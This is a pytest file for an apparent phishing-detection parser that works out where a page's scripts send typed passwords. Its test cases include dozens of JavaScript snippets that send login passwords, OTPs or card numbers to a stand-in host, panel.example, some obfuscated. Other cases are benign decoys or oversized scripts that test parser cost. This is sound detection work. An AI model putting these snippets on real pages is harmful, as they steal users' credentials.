"""Where scripts send what is typed, whatever the forms of the page say."""

import pytest

from scamtriage.parse.html.page import read_page
from scamtriage.parse.html.scripts.receivers import MAX_PIECES
from tests.cost import least_cpu_s
from tests.parse.html.readers import STREAM

FORM = (
    '<form id="login" onsubmit="return go(event)"><input name="user"><input type="password" name="xpw1" id="qq7"><button>OK</button></form>'
)
THERE = "https://panel.example/a/post.php"


def hosts(script: str, form: str = FORM, tail: str = "") -> list[str]:
    """Where the inputs of a page with this script are sent."""
    html = f"<!doctype html><h1>Bank</h1>{form}<script>{script}</script>{tail}"
    facts, _ = read_page(body=html.encode(), content_type="text/html", url="https://a.test/x/", host="a.test", suffix="test")
    return [form.action_host for form in facts.forms if any(field.asks == "password" for field in form.fields)]


@pytest.mark.parametrize("flood", ["", STREAM], ids=["tree", "tokens"])
@pytest.mark.parametrize(
    "script",
    [
        f"document.getElementById('login').action = '{THERE}'",
        f"document.forms[0].action='{THERE}';",
        f"function go(e){{ e.target.action = '{THERE}'; return true }}",
        f"$('#login').attr('action', '{THERE}')",
        f'login.setAttribute("action", "{THERE}")',
        f"document.querySelector('button').formAction = '{THERE}'",
        "const s = new WebSocket('wss://panel.example/live'); function go(){ s.send(JSON.stringify({password: login.xpw1.value})) }",
        "var socket = io('https://panel.example'); $('#b').click(() => socket.emit('otp', {otp: o}))",
        f"function go(){{ new Image().src = '{THERE}?p=' + encodeURIComponent(login.xpw1.value) }}",
        f"function go(){{ location.href = '{THERE}?u=' + u + '&p=' + login.xpw1.value }}",
        "login.action = 'https://bank.example:443@panel.example/'",
        "login['act'+'ion'] = atob('aHR0cHM6Ly9wYW5lbC5leGFtcGxlL2EvcG9zdC5waHA=')",
        f"const API = '{THERE}'; function go(e){{ fetch(API, {{method: 'POST', body: new FormData(login)}}) }}",
        "const A = 'https://panel.example'; const go = async e => { await fetch(`${A}/save?id=${uid}`, {method: 'POST', body: of(xpw1)}) }",
        f"$('#login').submit(function(){{ $.post('{THERE}', $(this).serialize()); return false }})",
        f"$.ajax({{ type: 'POST', url: '{THERE}', data: {{ email: email, password: password }} }})",
        f"function go(){{ var x = new XMLHttpRequest(); x.open('POST', '{THERE}', true); x.send('u=' + u + '&p=' + login.xpw1.value) }}",
        f"axios.post('{THERE}', {{ user, otp: otpValue }})",
        f"axios({{ method: 'post', url: '{THERE}', data: new FormData(login) }})",
        f"addEventListener('pagehide', function(){{ navigator.sendBeacon('{THERE}', JSON.stringify({{matKhau: m}})) }})",
        "var u = 'https://panel.example/c?k=' + key; new XMLHttpRequest().open('GET', 'https://panel.example/c?p=' + login.xpw1.value)",
        f"function go(e){{ const body = {{}}; body['card_number'] = n.value; return fetch('{THERE}', {{body}}) }}",
        f"fetch('{THERE}', {{method: 'POST', body: document.getElementById('qq7').value}})",
        f"fetch('{THERE}', {{method: 'POST', body: `u=${{user}}&p=${{xpw1.value}}`}})",
        f"fetch(new Request('{THERE}', {{method: 'POST', body: btoa(xpw1.value)}}))",
        f"window['fetch']('{THERE}', {{method: 'POST', body: login.elements[1].value}})",
        f"function post(d){{ fetch('{THERE}', {{method: 'POST', body: d}}) }} login.onsubmit = function(){{ post({{p: xpw1.value}}) }}",
        f"const post = async d => {{ await fetch('{THERE}', {{body: d}}) }}; login.onsubmit = () => post(xpw1.value)",
        f"var f = new FormData; f.append('p', document.querySelector('[name=xpw1]').value); fetch('{THERE}', {{body: f}})",
        f"var s = {{url: '{THERE}', data: {{p: xpw1.value}}}}; $.ajax(s)",
        f"window.open('{THERE}?p=' + xpw1.value)",
        f"new Vue({{data: {{form: {{user: '', password: ''}}}}, methods: {{go(){{ axios.post('{THERE}', this.form) }}}}}})",
        f"const [f, setF] = useState({{user: '', password: ''}}); const go = () => fetch('{THERE}', {{body: JSON.stringify(f)}})",
        f"const state = reactive({{user: '', password: null}}); function go(){{ axios.post('{THERE}', state) }}",
        f"location.replace('{THERE}?p=' + xpw1.value)",
        f"let u = '/a'; u = '{THERE}'; function never(){{ u = '/a' }} fetch(u, {{body: xpw1.value}})",
        "let u = 'https://panel.example'; function never(){ u = '/a' } fetch(`${u}/a`, {body: xpw1.value})",
        "".join(f"fetch('https://a.test/{n}', {{body: xpw1}});" for n in range(300)) + f"fetch('{THERE}', {{body: xpw1}})",
        f"var f = document.createElement('form'); f.action = '{THERE}'; var h = make(); h.value = xpw1.value; f.appendChild(h); f.submit()",
    ],
)
def test_what_a_script_sends_elsewhere_is_sent_there(script: str, flood: str) -> None:
    assert [host for host in hosts(script, tail=flood) if host != "a.test"] == ["", "panel.example"]


@pytest.mark.parametrize("decoy", ["<form action='//panel.example/'></form>", "<form action='//panel.example/'><input name=q></form>"])
def test_a_form_of_no_secret_that_names_the_receiver_does_not_stand_for_it(decoy: str) -> None:
    script = f"fetch('{THERE}', {{method: 'POST', body: new FormData(login)}})"
    assert hosts(script, form=decoy + FORM) == ["", "panel.example"]


@pytest.mark.parametrize(("method", "told"), [("script", "get"), (" POST ", "post"), ("dialog", "dialog"), ("put", "get"), ("", "get")])
def test_a_method_that_browsers_do_not_know_is_get_and_none_says_that_a_script_sends(method: str, told: str) -> None:
    button = "<button formmethod=script formaction='//b.example/'>OK</button>"
    html = f"<form method='{method}' action='{THERE}'><input type=password name=p>{button}</form>"
    facts, _ = read_page(body=html.encode(), content_type="text/html", url="https://a.test/", host="a.test", suffix="test")
    assert [(form.action_host, form.method) for form in facts.forms] == [("panel.example", told), ("b.example", "get")]


@pytest.mark.parametrize("decoy", ["<form><input name=q></form>", "<form id=search><input name=q></form>"])
@pytest.mark.parametrize(
    "script",
    [
        f"fetch('{THERE}', {{method: 'POST', body: new FormData(login)}})",
        f"$('#login').submit(function(){{ $.post('{THERE}', $(this).serialize()); return false }})",
        f"document.getElementById('login').addEventListener('submit', function(e){{ fetch('{THERE}', {{body: new FormData(e.target)}}) }})",
        f"function go(e){{ fetch('{THERE}', {{method: 'POST', body: new FormData(e.target)}}) }}",
        f"function go(e){{ e.target.action = '{THERE}' }}",
        f"var f = document.forms[0]; f.action = '{THERE}'",
    ],
)
def test_a_form_beside_that_takes_no_secret_hides_no_receiver(script: str, decoy: str) -> None:
    assert hosts(script, form=decoy + FORM) == hosts(script, form=FORM + decoy) == ["", "panel.example"]


def test_a_handler_in_an_attribute_and_inputs_outside_forms_are_read_too() -> None:
    inputs = f"<input type=password id=pwd><button onclick=\"fetch('{THERE}', {{method: 'POST', body: pwd.value}})\">OK</button>"
    assert hosts("", form=inputs) == ["panel.example"]
    form = "<form action='{}'><input type=password name=pwd></form>"
    assert hosts("", form=form.format(f'javascript:void fetch("{THERE}?p="+pwd.value)')) == ["", "panel.example"]


@pytest.mark.parametrize(
    "script",
    [
        f"store.action === '{THERE}'",
        f"state.action = 'open'; menu = '{THERE}'",
        f"login.action = '/x/post.php'; log('{THERE}')",
        f"fetch('{THERE}').then(r => r.json()).then(show)",
        f"function load(){{ fetch('{THERE}') }} function go(){{ check(password) }}",
        "function go(){ fetch('/api/login', {method: 'POST', body: new FormData(login)}) }",
        "function go(){ fetch('https://a.test/api/login', {method: 'POST', body: new FormData(login)}) }",
        "function go(){ fetch(location.origin + '/login', {method: 'POST', body: new FormData(login)}) }",
        f"function go(){{ check(password); fetch('{THERE}').then(show) }}",
        f"$(function(){{ {'a.b(c);' * 100} f.password.focus(); $.post('{THERE}', stat) }})",
        f"fetch('{THERE}', {{method: 'POST', body: page}}); {'a.b(c);' * 100} f.password.focus()",
        "const s = new WebSocket('wss://chat.example/live'); s.send('hello'); f.password.focus()",
        "new Image().src = 'https://count.example/?r=' + Math.random(); f.password.focus()",
        "help.href = 'https://help.example/?page=' + page",
        f"// login.action = '{THERE}'",
        f"say(\"login.action = '{THERE}'\")",
        f"$.post('{THERE}', {{ page: 3 }})",
        "window.open('GET', 'https://help.example/password')",
        f"login.onsubmit = function(){{ if (!xpw1.value) return; navigator.sendBeacon('{THERE}', JSON.stringify({{e: 'login'}})) }}",
        f"xpw1.onfocus = function(){{ fetch('{THERE}', {{method: 'POST', body: JSON.stringify({{event: 'password_focus'}})}}) }}",
        f"go.onclick = function(){{ navigator.sendBeacon('{THERE}', JSON.stringify({{event: 'login', method: 'password'}})) }}",
        f"onerror = function(m){{ var x = new XMLHttpRequest(); x.open('POST', '{THERE}'); x.send(of({{scrub: ['password', 'otp']}})) }}",
        f"function send(ev){{ delete ev.data.password; fetch('{THERE}', {{method: 'POST', body: JSON.stringify(ev)}}) }}",
        f"$.post('{THERE}', {{page: 3, password: ''}})",
        f"$.post('{THERE}', {{length: xpw1.value.length, empty: password == ''}})",
        "fetch('https://panel.example/otp/resend', {method: 'POST', body: JSON.stringify({phone: p, type: 'otp'})})",
        "const s = new WebSocket('wss://chat.example/live'); s.send('hi'); other.emit('log-in', {password: p})",
        f"location = '{THERE}?mode=' + (otp ? 'otp' : 'mail'); help.href = '{THERE}?' + forgotPasswordPath",
        f"var share = {{}}; share.action = '{THERE}'",
        f"var pay = document.createElement('form'); pay.action = '{THERE}'; pay.submit()",
        f"var state = {{user: '', password: ''}}; $.post('{THERE}', {{user: state.user}}); state = 3",
        f"$.post('{THERE}', stat, function(){{ login.password.focus() }})",
    ],
)
def test_what_sends_no_secret_elsewhere_receives_none(script: str) -> None:
    assert hosts(script) in ([""], ["", "a.test"])


def test_a_letter_that_is_subscribed_to_beside_a_log_in_sends_no_secret() -> None:
    letter = FORM + '<form id="news"><input type="email" name="mail"></form>'
    assert hosts(f"news.onsubmit = function(){{ fetch('{THERE}', {{method: 'POST', body: new FormData(news)}}) }}", form=letter) == [""]


@pytest.mark.parametrize(
    "script",
    [f"news.action = '{THERE}'", f"$('#news').attr('action', '{THERE}')", f"news.onsubmit = function(){{ this.action = '{THERE}' }}"],
)
def test_another_form_that_a_script_sends_elsewhere_takes_no_secret_there(script: str) -> None:
    assert hosts(script, form=FORM + '<form id="news"><input type="email" name="mail"></form>') == [""]


def test_a_page_that_asks_for_no_secret_sends_none() -> None:
    assert hosts(f"search.action = '{THERE}'", form="<form id=search><input name=q></form>") == []


def test_a_long_script_pushes_no_short_one_aside_and_is_told_where_it_was_cut() -> None:
    long = "fetch(a, {body: xpw1});" + "a=b;" * MAX_PIECES
    assert hosts(f"{long}</script><script>login.action='{THERE}'") == ["", "panel.example"]
    html = f"{FORM}<script>{long}</script>"
    _, caps = read_page(body=html.encode(), content_type="text/html", url="https://a.test/", host="a.test", suffix="test")
    assert f"receiver search pieces {MAX_PIECES}" in [cap.cap for cap in caps]


@pytest.mark.parametrize(
    "piece",
    [
        "fetch(u,{a:password});",
        "function(){fetch(",
        "a.action=",
        "$.post(",
        "fetch(b+",
        "function f(){x.open('POST',",
        "fetch('//a.b/',(",
        "a=>fetch(`",
        "u='//a.b/';fetch(u,password);",
        "f(password);function f(a){f(a)}",
        "a={password:'',b:[",
        "{a:{b:1,password:'',",
        "fetch(`${a}`,password);a=b;",
        "a.b(c)[d].e.action='//a.b/';",
        "s=io(u);s.emit(password);",
    ],
)
def test_hostile_scripts_cost_little(piece: str) -> None:
    html = f"{FORM}<script>{piece * (900_000 // len(piece))}</script>"
    assert least_cpu_s(lambda: hosts(html), within=1.5) <= 1.5


def test_hundreds_of_requests_that_ask_one_name_read_what_it_is_given_once() -> None:
    given = f"u=`${{{'a+' * 450}v}}`;" * 40
    html = f"{given}{'fetch(u,password);' * 560}"
    assert least_cpu_s(lambda: hosts(html), within=1.5) <= 1.5
